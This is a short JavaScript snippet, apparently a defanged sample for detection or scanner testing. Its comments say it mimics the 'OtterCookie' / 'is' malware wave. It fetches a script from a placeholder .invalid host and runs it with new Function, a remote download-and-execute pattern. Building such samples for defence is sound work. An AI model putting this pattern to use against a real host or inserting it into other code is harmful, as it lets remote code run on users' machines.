// Mimics OtterCookie / the `is` wave: fetch a script and run it with new Function (catalog §4.17).
// Defanged: .invalid host; nothing resolves.
fetch('https://code.invalid/stage2')
  .then((res) => res.text())
  .then((text) => new Function(text)());
